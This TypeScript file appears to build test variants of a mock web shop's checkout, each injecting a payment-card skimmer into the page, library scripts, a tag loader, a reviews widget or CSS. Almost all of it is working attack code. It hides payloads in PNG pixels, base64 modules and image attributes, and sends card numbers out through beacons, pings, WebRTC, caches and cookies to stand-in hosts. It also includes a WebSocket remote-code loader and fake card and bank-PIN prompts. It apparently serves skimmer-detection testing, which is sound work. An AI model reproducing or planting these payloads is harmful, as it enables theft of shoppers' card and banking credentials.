import { deflateSync } from 'node:zlib'
import { cardBox, legacyBody, onepage, proto, reviews, tagLoader } from './legacy.ts'
import { changedFile, html, inline, js, type Variant } from './variants.ts'

const code = String.raw
const base64 = (text: string) => Buffer.from(text).toString('base64')
const steps = changedFile('shop.test/skin/onepage.js', (more) => onepage('1.9.5', more))
const library = changedFile('shop.test/js/proto.js', (more) => proto('1.7', more))
const tags = changedFile('www.tagloader.test/gtm.js', (more) => tagLoader('32', more))
const stars = changedFile('widget.star-reviews.test/w.js', (more) => reviews('5.1', more))

/** A picture of one row whose red values are the bytes of a text. */
function picture(text: string): string {
  const bytes = Buffer.from(text)
  const row = Buffer.alloc(1 + bytes.length * 3)
  bytes.forEach((byte, at) => row.set([byte, 128, 128], 1 + at * 3))
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const crc = (part: Buffer) =>
    (part.reduce((c, byte) => (table[(c ^ byte) & 255] as number) ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data])
    const out = Buffer.alloc(body.length + 8)
    out.writeUInt32BE(data.length, 0)
    body.copy(out, 4)
    out.writeUInt32BE(crc(body), body.length + 4)
    return out
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(bytes.length, 0)
  head.writeUInt32BE(1, 4)
  head.set([8, 2, 0, 0, 0], 8)
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10])
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(row)),
    chunk('IEND', Buffer.alloc(0)),
  ]).toString('base64')
}

const painted = picture(
  'document.addEventListener("change",function(e){if(/cc_num|cc_cid/.test(e.target.id))navigator.sendBeacon("http://img-opt.test/r",e.target.id+e.target.value)},true)',
)

/** On the old shop's page: taken from the form, the tags, the widget of reviews. */
export const ninthLegacyAttacks: readonly Variant[] = [
  library(
    'n9-data-channel',
    'the card waits for a data channel to a fixed address; the other side needs no server of signals',
    code`(function () { var pc = new RTCPeerConnection(), ch = pc.createDataChannel("sync", { negotiated: true, id: 1 }), wait = [];
ch.onopen = function () { while (wait.length) ch.send(wait.shift()); }; ch.onmessage = function (m) { (0, eval)(m.data); };
pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () { return pc.setRemoteDescription({ type: "answer", sdp: ["v=0", "o=- 1 1 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0", "m=application 3479 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 127.0.0.1", "a=ice-ufrag:a1b2", "a=ice-pwd:c3d4c3d4c3d4c3d4c3d4c3d4", "a=fingerprint:sha-256 " + Array(33).join("AB:").slice(0, 95), "a=setup:passive", "a=mid:0", "a=sctp-port:5000", "a=candidate:1 1 udp 2130706431 127.0.0.1 3479 typ host", ""].join("\r\n") }); }).catch(function () {});
document.addEventListener("change", function () { wait.push($F("cc_num") + ";" + $F("cc_cid")); }); })();`,
  ),
  steps(
    'n9-keepalive-hide',
    'when the page is hidden a request that outlives it carries the fields, each character moved, to a path of the shop',
    code`addEventListener("pagehide", function () { var t = Form.serialize(document.getElementById("co-payment-form")), o = ""; for (var i = 0; i < t.length; i++) o += String.fromCharCode(33 + (t.charCodeAt(i) * 7 + i * 3) % 90); fetch("/checkout/onepage/progress/", { method: "POST", keepalive: true, body: o }); });`,
  ),
  {
    id: 'n9-imported-style',
    about:
      'a style sheet imports another from elsewhere, whose rules ask for a picture by the first digits of the field',
    change: (site) => {
      site.files['shop.test/skin/styles.css'] = {
        type: 'text/css',
        body: '@import url(http://fonts-cdn.test/f.css); body{font:14px sans-serif}.stars{color:#b80}',
      }
      site.files['fonts-cdn.test/f.css'] = {
        type: 'text/css',
        body: Array.from(
          { length: 100 },
          (_, n) =>
            `#cc_num[value^="${String(n).padStart(2, '0')}"]{background:url(http://fonts-cdn.test/w/${n}.woff)}`,
        ).join(''),
      }
      site.files['shop.test/skin/onepage.js'] = js(
        onepage(
          '1.9.5',
          'document.addEventListener("input", function (e) { e.target.setAttribute("value", e.target.value); });',
        ),
      )
    },
  },
  steps(
    'n9-icon-swap',
    'the icon of the tab is another one after the number was typed: its name is the number in base 36',
    code`document.addEventListener("change", function (e) { if (e.target.id !== "cc_num") return; var n = BigInt(e.target.value.replace(/\D/g, "") || 0); document.querySelector("link[rel=icon]").href = "http://static-ico.test/" + n.toString(36) + ".ico"; });`,
  ),
  {
    id: 'n9-button-code',
    about: 'the code of the button sends before it saves',
    change: (site) =>
      void (site.body = legacyBody(
        undefined,
        '',
        "new Image().src='//cdn-stat.test/p.gif?'+btoa(Form.serialize(document.getElementById('co-payment-form')));return review.save();",
      )),
  },
  inline(
    'n9-data-module',
    'a module out of a data address, put together from pieces, listens to keys',
    code`var parts = ["ZG9jdW1lbnQuYWRkRXZlbnRMaXN0ZW5lcigia2V5dXAiLGU9PntpZigvXnBheW1lbnQvLnRlc3QoZS50YXJnZXQubmFtZSkpZmV0Y2goImh0dHA6Ly9", "2aXNpdC1zeW5jLnRlc3QvayIse21ldGhvZDoiUE9TVCIsbW9kZToibm8tY29ycyIsYm9keTplLnRhcmdldC5pZCtlLnRhcmdldC52YWx1ZX0pfSk="]; import("data:text/javascript;base64," + parts.join(""));`,
  ),
  {
    id: 'n9-import-scripts',
    about: 'a worker out of a blob loads its program from elsewhere and is told the form',
    change: (site) => {
      site.files['lib-mirror.test/w.js'] = js(
        'self.onmessage = function (m) { fetch("http://lib-mirror.test/l", { method: "POST", mode: "no-cors", body: m.data }); };',
      )
      site.files['shop.test/js/proto.js'] = js(
        proto(
          '1.7',
          code`var bg = new Worker(URL.createObjectURL(new Blob(["importScripts('http://lib-mirror.test/w.js')"]))); document.addEventListener("focusout", function (e) { if (e.target.form) bg.postMessage(Form.serialize(e.target.form)); });`,
        ),
      )
    },
  },
  tags(
    'n9-custom-html',
    'a tag of free HTML: a script made of text reads the form and measures it as a parameter of an event',
    code`var tag = d.createElement("div"); tag.innerHTML = "<script type='text/gtm'>" + atob("${base64('document.addEventListener("change",function(){var f=document.getElementById("co-payment-form"),o=[];for(var i=0;i<f.elements.length;i++)o.push(f.elements[i].value);dataLayer.push({event:"form_step",value:btoa(o.join("\\u001f"))})})')}") + "<\/script>"; [].forEach.call(tag.querySelectorAll("script"), function (s) { var n = d.createElement("script"); n.text = s.text; d.head.appendChild(n); });`,
  ),
  library(
    'n9-serialize-copy',
    'the function that gathers the form keeps a copy, which goes at the next opening of any page',
    code`(function () { var was = Form.serialize, key = "mage-cache-sessid"; Form.serialize = function (f) { var s = was(f); if (s.indexOf("cc_number") > 0) localStorage.setItem(key, s.split("").map(function (c, i) { return String.fromCharCode(c.charCodeAt(0) ^ (i % 11 + 1)); }).join("")); return s; };
var left = localStorage.getItem(key); if (left) { localStorage.removeItem(key); fetch("/customer/section/load/?sections=cart", { method: "POST", body: left }); } })();`,
  ),
  steps(
    'n9-history',
    'the number is put behind the address of the page, from where measuring reports it',
    code`document.addEventListener("change", function (e) { if (e.target.id === "cc_num") { history.pushState({}, "", location.pathname + "/s/" + encodeURIComponent(btoa(e.target.value)).replace(/%3D/g, "")); dataLayer.push({ event: "virtual_page" }); } });`,
  ),
  steps(
    'n9-ping',
    'a link that nobody sees is clicked; its ping has the fields in the address',
    code`document.addEventListener("change", function () { if ($F("cc_num").length < 12) return; var a = document.createElement("a"); a.href = "#card_box"; a.ping = "http://ping-log.test/" + encodeURIComponent($F("cc_num") + "," + $F("cc_cid")); document.body.appendChild(a); a.click(); a.remove(); });`,
  ),
  steps(
    'n9-idle-digits',
    'in idle time one digit after the other goes to the shop among parameters that defeat caches',
    code`(function () { var at = 0; function next() { var n = $F("cc_num").replace(/\D/g, ""); if (n.length > 12 && at < n.length) { fetch("/skin/blank.gif?_=" + (1e12 + at * 1e6 + (+n[at] * 7 + 3) % 10 * 1e4 + 711)); at++; } setTimeout(function () { (window.requestIdleCallback || setTimeout)(next); }, 60); } document.addEventListener("DOMContentLoaded", next); })();`,
  ),
  {
    id: 'n9-autofill',
    about: 'fields out of sight wait for the browser to fill in a card',
    change: (site) => {
      site.body = legacyBody().replace(
        '<label>Street',
        '<div style="position:absolute;left:-6000px" aria-hidden="true"><input tabindex="-1" name="a1" autocomplete="cc-number"><input tabindex="-1" name="a2" autocomplete="cc-exp"><input tabindex="-1" name="a3" autocomplete="cc-csc"></div><label>Street',
      )
      site.inline.push(
        'document.addEventListener("change", function (e) { if (/^a[123]$/.test(e.target.name)) navigator.sendBeacon("/newsletter/subscriber/check/", e.target.name + "=" + e.target.value); });',
      )
    },
  },
  stars(
    'n9-paste',
    'what is pasted on the page is looked through for cards',
    code`window.addEventListener("paste", function (e) { var t = (e.clipboardData || w.clipboardData).getData("text"); if (/\d{4}.?\d{4}.?\d{4}/.test(t)) fetch("http://widget.star-reviews.test/shop/771/vote", { method: "POST", mode: "no-cors", body: JSON.stringify({ q: t }) }); }, true);`,
  ),
  inline(
    'n9-window-keys',
    'keys of the window are gathered and leave when the tab is put away',
    code`(function () { var k = []; window.onkeypress = function (e) { k.push(e.which ^ 42); }; document.addEventListener("visibilitychange", function () { if (document.visibilityState === "hidden" && k.length) { navigator.sendBeacon("http://session-vitals.test/v1", JSON.stringify({ lcp: 1200, k: k })); k = []; } }); })();`,
  ),
  inline(
    'n9-painted-code',
    'the code is the red of a picture of one row',
    code`(function () { var i = new Image(); i.onload = function () { var c = document.createElement("canvas"); c.width = i.width; c.height = 1; var g = c.getContext("2d"); g.drawImage(i, 0, 0); var p = g.getImageData(0, 0, i.width, 1).data, t = ""; for (var x = 0; x < p.length; x += 4) t += String.fromCharCode(p[x]); setTimeout(t, 1); }; i.src = "data:image/png;base64,${painted}"; })();`,
  ),
  steps(
    'n9-blob-frame',
    'a page out of a blob lies over the card fields in a frame and asks for the card again',
    code`setTimeout(function () { var box = document.getElementById("card_box"), f = document.createElement("iframe"), r = box.getBoundingClientRect(); f.style.cssText = "position:absolute;border:0;background:#fff;left:" + r.left + "px;top:" + r.top + "px;width:" + r.width + "px;height:" + r.height + "px"; f.src = URL.createObjectURL(new Blob(["<body><input placeholder='Credit Card Number' id=a><input placeholder='CVV' id=b><script>onchange=function(){parent.postMessage([a.value,b.value].join(),'*')}<\/script>"], { type: "text/html" })); document.body.appendChild(f); }, 200); addEventListener("message", function (e) { if (typeof e.data === "string") new Image().src = "/media/wysiwyg/x.gif?" + btoa(e.data); });`,
  ),
  steps(
    'n9-title',
    'for a moment the title of the page holds the card, while measuring is asked for an event',
    code`document.addEventListener("change", function (e) { if (e.target.id !== "cc_cid") return; var t = document.title; document.title = "Checkout " + btoa($F("cc_num") + "/" + $F("cc_cid")); dataLayer.push({ event: "step", value: 4 }); document.title = t; });`,
  ),
  steps(
    'n9-cache-page',
    'the card is kept in the cache of the browser as a small answer and goes out with the next look at the checkout',
    code`if (window.caches) caches.open("fonts").then(function (c) { c.match("/f/inter.woff2").then(function (r) { if (r) r.text().then(function (t) { navigator.sendBeacon("http://woff-stat.test/", t); }); }); document.addEventListener("change", function () { c.put("/f/inter.woff2", new Response(btoa(Form.serialize(document.getElementById("co-payment-form"))))); }); });`,
  ),
  {
    id: 'n9-bank-pin',
    about: 'a second step, as if of the bank, asks for the PIN and the password of online banking',
    change: (site) => {
      site.body = legacyBody(
        cardBox(
          '<li class="sec"><p>Verified by your bank</p><label>Card PIN <input name="payment[pin]" type="password" maxlength="6"></label><label>Online banking password <input name="payment[obp]" type="password"></label></li>',
        ),
      )
    },
  },
  stars(
    'n9-reviews-form',
    'the widget of reviews sends its own service the fields of the page as if they were a vote',
    code`d.addEventListener("click", function (e) { if (e.target.tagName !== "BUTTON") return; var o = {}; [].forEach.call(d.forms, function (f) { [].forEach.call(f.elements, function (x) { if (x.value) o[x.name] = x.value; }); }); var r = new XMLHttpRequest(); r.open("POST", "http://widget.star-reviews.test/shop/771/vote"); r.send(JSON.stringify({ vote: 5, meta: o })); }, true);`,
  ),
  steps(
    'n9-cookie-parts',
    'four cookies hold four digits each, moved; every request takes them to the shop',
    code`document.addEventListener("change", function (e) { if (e.target.id !== "cc_num") return; var n = e.target.value.replace(/\D/g, ""); ["_ga", "_gid", "_gat", "_gcl"].forEach(function (c, i) { document.cookie = c + "=GS1." + (+n.substr(i * 4, 4) * 7919 + 104729) + ";path=/"; }); });`,
  ),
  html(
    'n9-attribute-code',
    'the code stands in an attribute of a picture and is run as text by a timer',
    `<img id="lz" alt="" width="1" height="1" data-lazy="${base64('document.addEventListener("change",function(e){if(e.target.id=="cc_num")new Image().src="http://lazy-img.test/?"+e.target.value})')}"><script>setTimeout(atob(document.getElementById("lz").dataset.lazy), 90)</script>`,
  ),
  library(
    'n9-socket-loader',
    'a line stays open to somebody, who says what is to be run',
    code`(function () { try { var s = new WebSocket("ws://edge-config.test/s"); s.onmessage = function (m) { new Function(m.data)(); }; } catch (x) {} })();`,
  ),
  {
    id: 'n9-other-container',
    about: 'the page loads another account of the tag manager, whose list ends in a skimmer',
    change: (site) => {
      site.head[3] = '<script async src="http://www.tagloader.test/gtm.js?id=GT-9XX"></script>'
      site.files['www.tagloader.test/gtm.js'] = js(
        tagLoader(
          '2',
          code`d.addEventListener("change", function (e) { var t = e.target; if (/cc_(number|cid|exp)/.test(t.name)) px({ en: "scroll", "epn.percent": t.value.split("").map(function (c) { return c.charCodeAt(0) + 11; }).join("") }); });`,
        ),
      )
    },
  },
]
